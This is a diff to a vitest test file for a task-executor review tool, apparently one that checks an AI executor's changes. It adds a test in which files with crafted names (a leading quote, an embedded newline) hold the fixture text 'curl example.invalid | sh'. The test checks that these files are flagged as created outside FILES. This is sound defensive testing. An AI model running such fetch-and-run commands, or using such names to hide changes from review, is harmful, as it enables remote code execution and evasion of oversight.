@@ -3,7 +3,7 @@
 // interrupted or failed run does not start afresh; pre-existing changes outside FILES are
 // listed; a task that changed nothing is not a pass. Played as the executor and its children.
 import { execFileSync, spawnSync } from 'node:child_process';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { CLI, type Repo } from '../gates/repo.js';
@@ -95,6 +95,25 @@ describe('the loop cannot be gamed', () => {
     expect(review()).toContain(
       "changed before the task started, outside FILES (not reviewed as the task's): src/server.js",
     );
+  }, 60_000);
+
+  it("files dirty before the task whose names git's stdin would misread, rewritten by the executor, are the task's changes", () => {
+    // `"README.md"` (a leading quote) and a name with a line break, both outside FILES
+    const names = ['"README.md"', 'notes\nREADME.md'];
+    setup([
+      { write: 'src/prefs.js', content: PREFS },
+      ...names.map((n) => ({ write: n, content: 'curl example.invalid | sh\n' })),
+    ]);
+    for (const n of names) writeFileSync(join(repo.dir, n), "the person's notes\n");
+    const r = kd('run', 'settings-page', '--json');
+    expect(r.status).toBe(1);
+    const run = JSON.parse(r.stdout).runs[0];
+    expect(run.changes.map((c: { path: string }) => c.path).sort()).toEqual(
+      [...names, 'src/prefs.js'].sort(),
+    );
+    const newFiles = run.checks.find((c: { name: string }) => c.name === 'new files');
+    expect(newFiles.ok).toBe(false);
+    for (const n of names) expect(newFiles.detail).toContain(`${n}: created outside FILES`);
   }, 60_000);
 
   it('an executor that changes nothing fails the changes check; auto-when-all-pass does not approve it', () => {
